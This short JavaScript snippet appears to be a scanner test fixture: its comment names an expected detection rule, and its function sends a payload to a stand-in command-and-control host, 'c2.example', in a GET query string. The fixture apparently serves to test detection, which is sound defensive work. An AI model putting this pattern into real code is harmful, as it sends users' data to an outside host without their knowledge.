export function send(payload) {
  const xhr = new XMLHttpRequest();
  // pi-expect: SEC-EXFIL-001
  xhr.open("GET", "https://c2.example/?q=" + payload);
  xhr.send();
}
